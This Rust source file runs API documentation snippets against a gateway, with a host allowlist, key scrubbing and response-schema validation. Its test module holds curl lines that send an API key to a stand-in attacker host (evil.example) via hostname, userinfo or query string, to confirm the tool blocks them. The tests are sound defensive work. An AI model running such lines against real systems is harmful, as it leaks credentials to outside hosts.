//! Running snippets: placeholders and variables filled with the gateway's values, parsed into
//! requests, allowed hosts only, matched to an operation, sent with bounded concurrency, and the
//! answers checked against the spec. The key is a [`Secret`], scrubbed from every reason reported.
//! A failed request is reported once per distinct cause, with the number of examples it hit.

use super::send::{self, Answer, SendError};
use super::{language_name, Origin, Outcome, Report, Snippet};
use crate::apigen::json_schema;
use crate::apimatch::{Match, Router, FORWARDED_HOST};
use crate::catalog::{Catalog, Operation, Spec};
use crate::diag::{Diagnostic, Span};
use crate::secret::Secret;
use crate::snippets;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;
use std::time::Duration;

/// How requests are sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum RunnerKind {
    /// The built-in HTTP client (reqwest) and PowerShell-subset interpreter.
    Builtin,
    /// The real `curl` binary, with the parsed arguments (still no shell).
    Curl,
}

/// Where and how examples run.
#[derive(Debug, Clone)]
pub struct Runner {
    /// The gateway's base URL (`http://127.0.0.1:8089`).
    pub base_url: String,
    /// The API key (never reported: scrubbed from every reason).
    pub key: Secret,
    /// The IntArk gateway URL pattern with `{instans}`; matching hosts are sent to `base_url`.
    pub gateway_pattern: String,
    /// Text writers put where the key goes.
    pub key_placeholders: Vec<String>,
    /// Variables examples read the key from.
    pub key_variables: Vec<String>,
    /// Placeholder words for path parts.
    pub path_placeholders: Vec<String>,
    /// Requests at once.
    pub concurrency: usize,
    /// Per request.
    pub timeout: Duration,
    /// HTTP client.
    pub kind: RunnerKind,
    /// Show progress on stderr.
    pub progress: bool,
    /// Send calls to the catalog APIs' own servers to `base_url` too (the embedded sandbox serves
    /// every API under its own base path); with a real gateway only that gateway is allowed.
    pub own_servers: bool,
}

/// A snippet's index, report, finding, and whether its request failed (counted per cause).
type Done = (usize, Report, Option<Diagnostic>, bool);

struct Outcomes {
    reports: Vec<Report>,
    findings: Vec<Diagnostic>,
}

/// Run every snippet; returns the per-snippet reports and the findings (rule `example`).
pub fn run(
    runner: &Runner,
    catalog: &Catalog,
    snippets: &[Snippet],
) -> (Vec<Report>, Vec<Diagnostic>) {
    let router = Router::new(catalog);
    // Calls to the APIs' own servers authenticate with the variables the spec's schemes name;
    // against the sandbox each holds its key.
    let mut with_credentials = runner.clone();
    if runner.own_servers {
        for api in catalog.apis.iter().filter(|a| !a.behind_gateway()) {
            for spec in &api.specs {
                for (_, credential) in spec.all_credentials() {
                    with_credentials
                        .key_variables
                        .extend(credential.env_vars().into_iter().map(str::to_string));
                }
            }
        }
    }
    let runner = &with_credentials;
    let own = if runner.own_servers {
        own_origins(catalog)
    } else {
        Vec::new()
    };
    let client = reqwest::blocking::Client::builder()
        .timeout(runner.timeout)
        .redirect(reqwest::redirect::Policy::none())
        .pool_max_idle_per_host(0)
        .build()
        .map_err(|e| runner.key.scrub(&e.to_string()));
    let next = AtomicUsize::new(0);
    let done = AtomicUsize::new(0);
    let results: Mutex<Vec<Done>> = Mutex::new(Vec::new());
    let workers = runner.concurrency.clamp(1, 64).min(snippets.len().max(1));
    std::thread::scope(|scope| {
        for _ in 0..workers {
            scope.spawn(|| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                let Some(snippet) = snippets.get(i) else {
                    break;
                };
                let _file = crate::error::processing(&snippet.file);
                let Ran {
                    outcome,
                    operation,
                    reason,
                    request_failed,
                } = one(
                    &Context {
                        runner,
                        catalog,
                        router: &router,
                        own: &own,
                    },
                    client.as_ref().map_err(String::as_str),
                    snippet,
                );
                let reason = runner.key.scrub(&reason);
                let finding = finding(snippet, outcome, &reason, operation.as_deref());
                let report = Report {
                    file: snippet.file.to_string_lossy().replace('\\', "/"),
                    line: snippet.line,
                    language: language_name(snippet.language),
                    origin: snippet.origin,
                    operation,
                    outcome,
                    reason,
                };
                results
                    .lock()
                    .unwrap_or_else(std::sync::PoisonError::into_inner)
                    .push((i, report, finding, request_failed));
                let n = done.fetch_add(1, Ordering::Relaxed) + 1;
                if runner.progress {
                    eprint!("\r  running examples: {n}/{}", snippets.len());
                }
            });
        }
    });
    if runner.progress {
        eprintln!();
    }
    let mut results = results
        .into_inner()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    results.sort_by_key(|(i, _, _, _)| *i);
    let mut out = Outcomes {
        reports: Vec::new(),
        findings: Vec::new(),
    };
    let mut failed_requests: Vec<(Report, Diagnostic)> = Vec::new();
    for (_, report, finding, request_failed) in results {
        match finding {
            Some(finding) if request_failed => failed_requests.push((report.clone(), finding)),
            finding => out.findings.extend(finding),
        }
        out.reports.push(report);
    }
    out.findings
        .extend(super::causes::per_cause(failed_requests));
    crate::diag::sort(&mut out.findings);
    (out.reports, out.findings)
}

fn finding(
    snippet: &Snippet,
    outcome: Outcome,
    reason: &str,
    operation: Option<&str>,
) -> Option<Diagnostic> {
    let span = Span {
        file: snippet.file.clone(),
        line: snippet.line,
        column: 1,
    };
    let what = match snippet.origin {
        Origin::Generated => format!(
            "generated {} example for {}",
            language_name(snippet.language),
            snippet.label
        ),
        Origin::Handwritten => format!("{} example", language_name(snippet.language)),
    };
    let on = operation.map(|o| format!(" ({o})")).unwrap_or_default();
    match outcome {
        Outcome::Failed => Some(Diagnostic::error("example", span, format!("{what}{on} failed: {reason}")).with_hint("fix the example or the spec; if the failure is intended, declare it: ```bash expect=401")),
        Outcome::NotRun if !snippet.todo => Some(Diagnostic::error("example", span, format!("{what}: {reason}")).with_hint("write the call in the supported subset, or opt out with ```bash skip=\"reason\"")),
        _ => None,
    }
}

/// Text a reader adapts, made runnable: emphasis around placeholders dropped, key placeholders filled.
fn prepare(text: &str, runner: &Runner) -> String {
    let mut text = text.replace("**", "");
    let mut placeholders: Vec<&String> = runner.key_placeholders.iter().collect();
    placeholders.sort_by_key(|p| std::cmp::Reverse(p.len()));
    for p in placeholders {
        text = text.replace(p.as_str(), runner.key.expose());
    }
    text
}

/// Send IntArk gateway URLs (any instance, `{instans}` or a placeholder) to the runner's gateway.
fn rewrite(url: &str, runner: &Runner) -> String {
    let (prefix, suffix) = runner
        .gateway_pattern
        .split_once("{instans}")
        .unwrap_or((&runner.gateway_pattern, ""));
    if let Some(rest) = url
        .strip_prefix(prefix)
        .or_else(|| url.strip_prefix(&prefix.replacen("https://", "http://", 1)))
    {
        let host_end = rest.find('/').unwrap_or(rest.len());
        if rest[..host_end].ends_with(suffix) {
            return format!(
                "{}{}",
                runner.base_url.trim_end_matches('/'),
                &rest[host_end..]
            );
        }
    }
    url.to_string()
}

/// `scheme://host[:port]` of a URL, lower-cased, without any user or password; `None` if it is not
/// an absolute http(s) URL.
fn origin_of(url: &url::Url) -> Option<String> {
    if !matches!(url.scheme(), "http" | "https") {
        return None;
    }
    Some(url.origin().ascii_serialization())
}

/// `scheme://host[:port]` of a URL as written, without any `user:password@`.
fn origin_as_written(url: &str) -> String {
    let Some((scheme, rest)) = url.split_once("://") else {
        return url.split(':').next().unwrap_or_default().to_string() + ":";
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    format!("{scheme}://{host}")
}

/// The path of a URL as written (not normalised or encoded, as the catalog's templates are), empty
/// as `/`.
fn path_as_written(url: &str) -> &str {
    let after_scheme = url.split_once("://").map_or(url, |(_, rest)| rest);
    let path = after_scheme
        .find(['/', '?', '#'])
        .and_then(|at| after_scheme.get(at..))
        .unwrap_or_default();
    match path.split(['?', '#']).next() {
        Some(p) if !p.is_empty() => p,
        _ => "/",
    }
}

/// What happened to one snippet.
struct Ran {
    outcome: Outcome,
    operation: Option<String>,
    reason: String,
    /// A request got no answer (the reason names the gateway and the cause, alike for alike).
    request_failed: bool,
}

impl Ran {
    fn new(outcome: Outcome, operation: Option<String>, reason: impl Into<String>) -> Ran {
        Ran {
            outcome,
            operation,
            reason: reason.into(),
            request_failed: false,
        }
    }
}

/// `scheme://host[:port]` of every server the catalog's APIs are called at directly, lower case.
fn own_origins(catalog: &Catalog) -> Vec<String> {
    let mut origins: Vec<String> = catalog
        .apis
        .iter()
        .flat_map(|a| a.operations())
        .filter_map(|op| match &op.gateway {
            crate::catalog::GatewayPath::Direct(url) => url::Url::parse(url).ok(),
            _ => None,
        })
        .filter_map(|u| origin_of(&u))
        .collect();
    origins.sort();
    origins.dedup();
    origins
}

/// What every snippet of a run shares.
struct Context<'a> {
    runner: &'a Runner,
    catalog: &'a Catalog,
    router: &'a Router,
    /// Origins of the APIs' own servers that are sent to the runner's base URL.
    own: &'a [String],
}

fn one(
    ctx: &Context<'_>,
    client: Result<&reqwest::blocking::Client, &str>,
    snippet: &Snippet,
) -> Ran {
    let (runner, catalog, router) = (ctx.runner, ctx.catalog, ctx.router);
    if let Some(reason) = &snippet.skip {
        return Ran::new(Outcome::Skipped, None, reason.clone());
    }
    if snippet.todo {
        return Ran::new(
            Outcome::NotRun,
            None,
            "holds a TODO placeholder (reported by the todo rule)",
        );
    }
    let text = prepare(&snippet.text, runner);
    let key = runner.key.clone();
    let vars = runner.key_variables.clone();
    let env = move |name: &str| {
        vars.iter()
            .any(|v| v == name)
            .then(|| key.expose().to_string())
    };
    let requests = match snippets::parse(snippet.language, &text, &env) {
        Ok(requests) => requests,
        Err(e) => return Ran::new(Outcome::NotRun, None, e.to_string()),
    };
    let allowed = url::Url::parse(&runner.base_url)
        .ok()
        .as_ref()
        .and_then(origin_of);
    let mut operation = None;
    for mut request in requests {
        request.url = rewrite(&request.url, runner);
        // The host as written picks the API when two have the same paths on different hosts.
        let mut host = None;
        if let Some(parsed) = url::Url::parse(&request.url)
            .ok()
            .filter(|u| origin_of(u).is_some_and(|o| ctx.own.contains(&o)))
        {
            host = crate::apimatch::host_of(&request.url);
            let origin = origin_as_written(&request.url);
            let rest = request.url[origin.len().min(request.url.len())..].to_string();
            let rest = if rest.starts_with('/') || rest.is_empty() {
                rest
            } else {
                // `user:password@` was part of the authority: drop it from the URL, keep the path.
                parsed[url::Position::BeforePath..].to_string()
            };
            request.url = format!("{}{rest}", runner.base_url.trim_end_matches('/'));
            request
                .headers
                .retain(|(n, _)| !n.eq_ignore_ascii_case(FORWARDED_HOST));
            request
                .headers
                .push((FORWARDED_HOST.into(), host.clone().unwrap_or_default()));
        }
        let parsed = match url::Url::parse(&request.url) {
            Ok(parsed) => parsed,
            Err(e) => {
                return Ran::new(
                    Outcome::NotRun,
                    operation,
                    format!("calls `{}`, which is not a URL ({e}); not run", request.url),
                )
            }
        };
        let origin = origin_of(&parsed);
        if origin.is_none() || origin != allowed {
            // As written (the parsed host may be punycode), without any user or password.
            let shown = origin_as_written(&request.url);
            return Ran::new(
                Outcome::NotRun,
                operation,
                format!("calls `{shown}`, which is not an allowed gateway; not run"),
            );
        }
        let path = path_as_written(&request.url);
        let (api, spec, op) = match router.find_at(&request.method, host.as_deref(), path) {
            Match::Found { api, spec, op, .. } => (api, spec, op),
            _ => return unmatched(runner, catalog, &request.method, path),
        };
        let api_ref = &catalog.apis[api];
        let spec_ref = &api_ref.specs[spec];
        let op_ref = &spec_ref.operations[op];
        operation = Some(format!("{} {}", api_ref.id, op_ref.anchor));
        let answer = match runner.kind {
            RunnerKind::Builtin => send::builtin(client, &request),
            RunnerKind::Curl => send::curl(&request, runner.timeout),
        };
        let answer = match answer {
            Ok(answer) => answer,
            Err(SendError(cause)) => {
                return Ran {
                    outcome: Outcome::Failed,
                    operation,
                    reason: format!(
                        "the request to `{}` failed: {cause}",
                        allowed.as_deref().unwrap_or_default()
                    ),
                    request_failed: true,
                }
            }
        };
        if let Err(reason) = check(snippet.expect, spec_ref, op_ref, &answer, &runner.key) {
            return Ran::new(Outcome::Failed, operation, reason);
        }
    }
    Ran::new(Outcome::Passed, operation, String::new())
}

/// Why a request matched no operation, as precisely as can be said.
fn unmatched(runner: &Runner, catalog: &Catalog, method: &str, path: &str) -> Ran {
    if let Some(word) = runner
        .path_placeholders
        .iter()
        .find(|w| path.contains(w.as_str()))
    {
        return Ran::new(Outcome::NotRun, None, format!("the path keeps the placeholder `{word}`; write the API's context path so the call can be checked"));
    }
    let api = catalog
        .apis
        .iter()
        .filter_map(|a| a.context_path.as_ref().map(|c| (a, c)))
        .filter(|(_, c)| {
            path == c.as_str() || path.starts_with(&format!("{}/", c.trim_end_matches('/')))
        })
        .max_by_key(|(_, c)| c.len());
    match api {
        Some((api, context)) if api.operations().next().is_none() => {
            Ran::new(Outcome::NotRun, None, format!("`{}` (context path `{context}`) has no spec in the catalog, so the call cannot be checked", api.title))
        }
        Some((api, _)) => Ran::new(Outcome::Failed, None, format!("example calls an unknown operation of `{}`: {method} {path}; the docs have drifted from the API", api.title)),
        None => Ran::new(Outcome::Failed, None, format!("example calls an unknown operation: {method} {path}; no API in the catalog has this context path")),
    }
}

fn check(
    expect: Option<u16>,
    spec: &Spec,
    op: &Operation,
    answer: &Answer,
    key: &Secret,
) -> Result<(), String> {
    let excerpt = || {
        // Scrubbed before it is cut: a cut through the key would leave its start unscrubbed. The
        // longest encoding of the key is 12 characters per character (`%XX` for each of 4 bytes).
        let text = String::from_utf8_lossy(&answer.body);
        let window: String = text.chars().take(200 + 12 * key.expose().len()).collect();
        let short: String = key.scrub(&window).chars().take(200).collect();
        if short.is_empty() {
            String::new()
        } else {
            format!(": {short}")
        }
    };
    let expected = expect.or_else(|| op.success().and_then(|r| r.status.parse().ok()));
    match expected {
        Some(code) if code != answer.status => {
            return Err(format!(
                "expected status {code}, got {}{}",
                answer.status,
                excerpt()
            ))
        }
        // No success documented: `default` takes any status; else the status must be one the
        // spec documents (an operation documented with only `405` answers `405`).
        None if !(200..300).contains(&answer.status)
            && !op
                .responses
                .iter()
                .any(|r| r.status == "default" || r.status == answer.status.to_string()) =>
        {
            return Err(format!(
                "expected a success status, got {}{}",
                answer.status,
                excerpt()
            ))
        }
        _ => {}
    }
    if expect.is_some() {
        return Ok(());
    }
    let status = answer.status.to_string();
    let Some(response) = op
        .responses
        .iter()
        .find(|r| r.status == status)
        .or_else(|| op.responses.iter().find(|r| r.status == "default"))
    else {
        return Ok(());
    };
    if response.content.is_empty() {
        return Ok(());
    }
    let got = answer
        .content_type
        .split(';')
        .next()
        .unwrap_or("")
        .trim()
        .to_ascii_lowercase();
    let Some(media) = response
        .content
        .iter()
        .find(|m| media_matches(&m.media_type, &got))
    else {
        let documented: Vec<&str> = response
            .content
            .iter()
            .map(|m| m.media_type.as_str())
            .collect();
        return Err(format!(
            "answered with Content-Type `{got}`, the spec documents {}",
            documented.join(", ")
        ));
    };
    if let (Some(schema), true) = (&media.schema, got.contains("json")) {
        let value: serde_json::Value = serde_json::from_slice(&answer.body)
            .map_err(|e| format!("the answer is not valid JSON: {e}"))?;
        let document =
            json_schema::document_for(schema, &spec.schemas, json_schema::Direction::Response);
        let validator = jsonschema::validator_for(&document)
            .map_err(|e| format!("the response schema cannot be compiled: {e}"))?;
        let errors: Vec<String> = validator
            .iter_errors(&value)
            .take(3)
            .map(|e| format!("{} at `{}`", e, e.instance_path()))
            .collect();
        if !errors.is_empty() {
            return Err(format!(
                "the answer does not match the response schema: {}",
                errors.join("; ")
            ));
        }
    }
    Ok(())
}

/// Whether an answer's media type is one the spec documents (`*/*` and `application/*` included).
fn media_matches(documented: &str, got: &str) -> bool {
    let documented = documented.to_ascii_lowercase();
    match documented.split_once('/') {
        Some(("*", "*")) => true,
        Some((kind, "*")) => got.split('/').next() == Some(kind),
        _ => documented == got,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn runner() -> Runner {
        Runner {
            base_url: "http://127.0.0.1:9".into(),
            key: Secret::new("Hemmelig-Nøkkel"),
            gateway_pattern: "https://gw-{instans}.intark.uh-it.no".into(),
            key_placeholders: vec!["API-nøkkel".into(), "DIN-NØKKEL".into()],
            key_variables: vec!["API_NOKKEL".into()],
            path_placeholders: vec!["CONTEXT-PATH".into()],
            concurrency: 2,
            timeout: Duration::from_secs(1),
            kind: RunnerKind::Builtin,
            progress: false,
            own_servers: false,
        }
    }

    #[test]
    fn gateway_hosts_of_any_instance_go_to_the_runner() {
        let r = runner();
        assert_eq!(
            rewrite("https://gw-uio.intark.uh-it.no/lonn/v1/x?y=1", &r),
            "http://127.0.0.1:9/lonn/v1/x?y=1"
        );
        assert_eq!(
            rewrite("https://gw-{instans}.intark.uh-it.no/a", &r),
            "http://127.0.0.1:9/a"
        );
        assert_eq!(
            rewrite("https://gw-INSTANS.intark.uh-it.no/a", &r),
            "http://127.0.0.1:9/a"
        );
        assert_eq!(
            rewrite("https://evil.example/a", &r),
            "https://evil.example/a"
        );
    }

    #[test]
    fn placeholders_are_filled_and_keys_redacted() {
        let r = runner();
        assert_eq!(
            prepare(
                "-H \"X-Gravitee-Api-Key: **API-nøkkel**\" https://gw-**INSTANS**.x/**lonn**/",
                &r
            ),
            "-H \"X-Gravitee-Api-Key: Hemmelig-Nøkkel\" https://gw-INSTANS.x/lonn/"
        );
        assert_eq!(r.key.scrub("key Hemmelig-Nøkkel leaked"), "key *** leaked");
    }

    fn snippet(text: &str) -> Snippet {
        Snippet {
            file: "content/a.md".into(),
            line: 3,
            language: crate::snippets::Language::Curl,
            origin: Origin::Handwritten,
            text: text.into(),
            expect: None,
            skip: None,
            label: "a".into(),
            todo: false,
        }
    }

    #[test]
    fn a_key_in_a_host_that_is_not_allowed_is_not_echoed_in_any_case() {
        let r = runner();
        let catalog = Catalog::default();
        let router = Router::new(&catalog);
        let ctx = Context {
            runner: &r,
            catalog: &catalog,
            router: &router,
            own: &[],
        };
        for text in [
            "curl https://$API_NOKKEL.evil.example/x",
            "curl https://u:$API_NOKKEL@evil.example/x",
            "curl \"https://evil.example/x?k=$API_NOKKEL\"",
        ] {
            let ran = one(&ctx, Err("not needed"), &snippet(text));
            let reason = r.key.scrub(&ran.reason);
            assert_eq!(ran.outcome, Outcome::NotRun, "{text}: {reason}");
            assert!(reason.contains("not an allowed gateway"), "{reason}");
            for form in ["hemmelig", "nøkkel", "n%c3%b8kkel", "xn--"] {
                assert!(!reason.to_lowercase().contains(form), "{text}: {reason}");
            }
        }
    }

    #[test]
    fn paths_as_written() {
        assert_eq!(path_as_written("http://h:1/a/}x{/ø?q=1#f"), "/a/}x{/ø");
        assert_eq!(path_as_written("http://u:p@h:1"), "/");
        assert_eq!(path_as_written("http://h?x=/y"), "/");
    }
}
